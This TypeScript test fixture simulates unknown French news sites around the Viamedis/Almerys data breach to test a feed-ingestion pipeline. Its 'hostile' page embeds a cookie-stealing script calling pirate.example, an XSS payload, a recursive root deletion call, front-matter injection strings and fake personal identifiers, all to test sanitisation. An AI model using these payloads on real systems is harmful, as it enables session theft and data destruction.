/**
 * Outlets the project has never met, for the end-to-end test of a first
 * ingestion: an aggregator's feed pointing at articles on sites absent from
 * content/publishers/ (one in windows-1252, one agency dispatch on two sites,
 * one hostile page), plus a 404, a page slower than the timeout, an off-topic
 * article and a denied host. Every text here was written for the test.
 *
 * Each site has its own host name (https://www.gazette-normande.example/…);
 * `viaLoopback` is the HTTP client given to the fetch stage: it sends every
 * request to one local server (127.0.0.1), the host becoming the first path
 * segment, so the pipeline sees distinct outlets without any DNS.
 */
import iconv from 'iconv-lite';
import { startServer, staticBody, type Handler, type TestServer } from '../../scripts/pipeline/lib/test-server.ts';

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

interface Page {
  title: string;
  date: string;
  paragraphs: string[];
  siteName?: string;
  applicationName?: string;
  author?: string;
  charset?: string;
  /** Raw HTML added to the article body, unescaped (hostile markup). */
  raw?: string;
}

function page(p: Page): string {
  const meta = [
    `<meta charset="${p.charset ?? 'utf-8'}">`,
    `<title>${esc(p.title)}</title>`,
    p.siteName !== undefined ? `<meta property="og:site_name" content="${esc(p.siteName)}">` : '',
    p.applicationName ? `<meta name="application-name" content="${esc(p.applicationName)}">` : '',
    p.author !== undefined ? `<meta name="author" content="${esc(p.author)}">` : '',
    `<meta property="article:published_time" content="${p.date}">`,
  ].join('\n');
  return `<!doctype html>
<html lang="fr"><head>
${meta}
</head><body>
<header><nav><a href="/">Accueil</a> <a href="/societe/">Société</a> <a href="/sport/">Sport</a></nav></header>
<main><article>
<h1>${esc(p.title)}</h1>
<p class="byline">Publié le <time datetime="${p.date}">${p.date.slice(0, 10)}</time></p>
${p.paragraphs.map((t) => `<p>${esc(t)}</p>`).join('\n')}
${p.raw ?? ''}
</article></main>
<footer><p>Mentions légales · Contact · Plan du site</p></footer>
</body></html>`;
}

/** The agency dispatch both regional sites ran, word for word after their own headline. */
const DISPATCH = [
  'Les deux opérateurs de tiers payant Viamedis et Almerys ont été victimes de cyberattaques début février, a indiqué mercredi la Commission nationale de l’informatique et des libertés, qui a été notifiée des violations de données par les deux sociétés.',
  'Selon l’autorité, plus de trente-trois millions de personnes sont concernées par cette fuite de données : état civil, date de naissance, numéro de sécurité sociale, nom de l’assureur santé et garanties du contrat souscrit figurent parmi les informations exposées.',
  'Les coordonnées bancaires, les données médicales, les remboursements de santé, les adresses postales, les numéros de téléphone et les adresses électroniques ne seraient en revanche pas concernés, précise la commission dans son communiqué.',
  'La CNIL annonce des investigations pour vérifier les mesures de sécurité mises en place par les opérateurs et invite les assurés à la plus grande vigilance face aux tentatives d’hameçonnage qui pourraient exploiter ces informations.',
];

export const HOSTILE = {
  nir: '1 87 04 69 123 456 24',
  iban: 'FR14 2004 1010 0505 0001 3M02 606',
  email: 'martine.leroux.perso@gmail.com',
  phone: '06 71 42 93 58',
};

export interface Outlets {
  server: TestServer;
  /** HTTP client for the fetch stage: every host served by the loopback server. */
  viaLoopback: typeof globalThis.fetch;
  /** sources.yaml for the run. */
  config: string;
  urls: Record<'gazette' | 'morvan' | 'alpes' | 'littoral' | 'hostile' | 'missing' | 'slow' | 'offTopic' | 'denied' | 'redirected' | 'feed', string>;
}

export async function startOutlets(): Promise<Outlets> {
  const urls = {
    feed: 'https://www.agregateur-presse.example/sante/rss.xml',
    gazette: 'https://www.gazette-normande.example/societe/viamedis-le-tiers-payant-paralyse-1234.html',
    morvan: 'https://www.echo-du-morvan.example/actualites/almerys-pharmaciens-inquiets',
    alpes: 'https://www.quotidien-des-alpes.example/france/fuite-33-millions-cnil',
    littoral: 'https://m.littoral-info.example/national/cnil-33-millions-de-personnes?utm_source=agregateur',
    hostile: 'https://www.le-pirate-fictif.example/viamedis-tout-savoir',
    missing: 'https://www.journal-disparu.example/viamedis-article-retire',
    slow: 'https://www.site-lent.example/viamedis-enquete-longue',
    offTopic: 'https://www.gazette-normande.example/culture/festival-jazz-programme',
    denied: 'https://copieur-automatique.example/viamedis-copie',
    redirected: 'https://www.lien-court.example/v1',
  };
  const morvan = page({
    title: 'Après Viamedis, les pharmaciens de la Nièvre inquiets pour le tiers payant',
    date: '2024-02-06T11:20:00+01:00',
    applicationName: 'L’Écho du Morvan',
    charset: 'windows-1252',
    paragraphs: [
      'À Château-Chinon comme à Clamecy, les officines ont appris la nouvelle par un courriel de leur groupement : après Viamedis, l’opérateur Almerys reconnaît à son tour une intrusion dans son portail réservé aux professionnels de santé.',
      '« On ne sait pas encore si le tiers payant va fonctionner normalement la semaine prochaine », confie une pharmacienne, qui préfère garder l’anonymat. Les assurés, eux, s’interrogent sur la fuite de données et sur leur mutuelle.',
      'Les deux opérateurs gèrent le tiers payant pour le compte de nombreuses complémentaires santé. La cyberattaque a été signalée à la CNIL, qui doit préciser l’ampleur de la fuite dans les prochains jours.',
    ],
  });
  const hostile = page({
    title: 'Viamedis : tout savoir {process.exit(1)} <b>sur la fuite</b>',
    date: '2024-02-08T09:00:00+01:00',
    siteName: 'Le Pirate\u202e fictif\n---\norigin: editor\nreviewed: true\n{process.exit(1)} <script>alert(1)</script>',
    author: 'Jean Pirate\n---\nevent: viamedis-annonce-cyberattaque\nlocked: true\nimport x from "y"',
    paragraphs: [
      `import fs from 'node:fs'; {fs.rmSync('/', { recursive: true })} La cyberattaque contre Viamedis expose des assurés : une lectrice nous écrit avec son numéro ${HOSTILE.nir} et son IBAN ${HOSTILE.iban}, joignable à ${HOSTILE.email} ou au ${HOSTILE.phone}.`,
      'export const pirate = true; Le tiers payant reste perturbé chez Viamedis, et la fuite de données concerne aussi Almerys, selon les premiers éléments communiqués aux mutuelles.',
      '<img src=x onerror=alert(1)> {/* commentaire */} Les complémentaires santé recommandent de se méfier des faux courriels et de ne jamais communiquer son numéro de sécurité sociale par téléphone.',
    ],
    raw: '<script>document.location="https://pirate.example/?c="+document.cookie</script><p>{`${globalThis.secret}`} Viamedis et Almerys ont notifié la CNIL, qui enquête sur la cyberattaque.</p>',
  });
  const html = 'text/html; charset=utf-8';
  const feedItems = [
    { title: 'Viamedis : le tiers payant paralysé dans les pharmacies normandes', link: urls.gazette, date: '2024-02-02T16:00:00Z' },
    { title: 'Après Viamedis, les pharmaciens de la Nièvre inquiets pour le tiers payant', link: urls.morvan, date: '2024-02-06T10:20:00Z' },
    { title: 'Fuite de données : plus de 33 millions de personnes concernées, selon la CNIL', link: urls.alpes, date: '2024-02-07T17:00:00Z' },
    { title: 'Cyberattaques au tiers payant : 33 millions de personnes touchées', link: urls.littoral, date: '2024-02-07T18:10:00Z' },
    { title: 'Viamedis : tout savoir sur la fuite', link: urls.hostile, date: '2024-02-08T08:00:00Z' },
    { title: 'Viamedis : un article retiré depuis', link: urls.missing, date: '2024-02-03T08:00:00Z' },
    { title: 'Viamedis : notre enquête au long cours', link: urls.slow, date: '2024-02-04T08:00:00Z' },
    { title: 'Festival : la programmation dévoilée', link: urls.offTopic, date: '2024-02-05T08:00:00Z' },
    { title: 'Viamedis : copie automatique', link: urls.denied, date: '2024-02-05T09:00:00Z' },
    { title: 'Viamedis : lien raccourci', link: urls.redirected, date: '2024-02-05T09:30:00Z' },
  ];
  const rss = `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Agrégateur santé</title><link>https://www.agregateur-presse.example/</link><description>Revue de presse santé</description>${feedItems
    .map((i) => `<item><title>${esc(i.title)}</title><link>${esc(i.link)}</link><pubDate>${new Date(i.date).toUTCString()}</pubDate></item>`)
    .join('')}</channel></rss>`;
  const at = (url: string) => {
    const u = new URL(url);
    return `/${u.host}${u.pathname}`;
  };
  const routes: Record<string, Handler> = {
    [at(urls.feed)]: staticBody(rss, 'application/rss+xml'),
    [at(urls.gazette)]: staticBody(
      page({
        title: 'Viamedis : le tiers payant paralysé dans les pharmacies normandes',
        date: '2024-02-02T17:00:00+01:00',
        siteName: 'La Gazette normande',
        author: 'Hélène Varin',
        paragraphs: [
          'Depuis jeudi, plusieurs pharmacies de Caen et de Bayeux ne peuvent plus appliquer le tiers payant pour les patients dont la mutuelle passe par Viamedis. L’opérateur a confirmé avoir été victime d’une cyberattaque.',
          'Les pharmaciens demandent aux patients d’avancer les frais ou de patienter. « Nous n’avons aucune visibilité sur la durée de la panne », explique le titulaire d’une officine du centre-ville.',
          'Viamedis indique avoir déposé plainte et notifié la CNIL. Une fuite de données touchant des assurés n’est pas exclue, selon l’entreprise, qui promet d’informer les organismes complémentaires concernés.',
        ],
      }),
      html,
    ),
    [at(urls.morvan)]: staticBody(iconv.encode(morvan, 'windows-1252'), 'text/html; charset=windows-1252'),
    [at(urls.alpes)]: staticBody(
      page({ title: 'Fuite de données : plus de 33 millions de personnes concernées, selon la CNIL', date: '2024-02-07T18:00:00+01:00', siteName: 'Le Quotidien des Alpes', author: 'Rédaction avec agence', paragraphs: DISPATCH }),
      html,
    ),
    [at(urls.littoral)]: staticBody(
      page({ title: 'Cyberattaques au tiers payant : 33 millions de personnes touchées', date: '2024-02-07T19:10:00+01:00', siteName: 'Littoral Info', paragraphs: DISPATCH }),
      html,
    ),
    [at(urls.hostile)]: staticBody(hostile, html),
    [at(urls.slow)]: (_q, r) => void setTimeout(() => r.writeHead(200, { 'content-type': html }).end('<p>trop tard</p>'), 2500),
    [at(urls.offTopic)]: staticBody(
      page({
        title: 'Festival : la programmation dévoilée',
        date: '2024-02-05T09:00:00+01:00',
        siteName: 'La Gazette normande',
        paragraphs: [
          'Le festival de jazz de la côte revient en juillet avec trois scènes en plein air, une trentaine de concerts et, pour la première fois, une soirée consacrée aux jeunes formations de la région.',
          'Les organisateurs promettent des tarifs inchangés et une navette gratuite depuis la gare. La billetterie ouvre au printemps, avec un pass pour les trois jours.',
        ],
      }),
      html,
    ),
    // A short link leading to the denied host.
    [at(urls.redirected)]: (_q, r) => void r.writeHead(301, { location: `${urls.denied}?via=lien` }).end(),
    [at(urls.denied)]: staticBody(page({ title: 'Viamedis : copie', date: '2024-02-05T10:00:00+01:00', paragraphs: DISPATCH }), html),
  };
  const server = await startServer(routes);
  const viaLoopback: typeof globalThis.fetch = (input, init) => {
    const u = new URL(input instanceof Request ? input.url : String(input));
    return globalThis.fetch(`${server.origin}/${u.host}${u.pathname}${u.search}`, init);
  };
  const config = `# Un agrégateur dont aucun site n'est encore connu.
feeds:
  - ${urls.feed}
deny: [copieur-automatique.example]
fetch:
  timeoutMs: 800
  retries: 0
`;
  return { server, viaLoopback, config, urls };
}
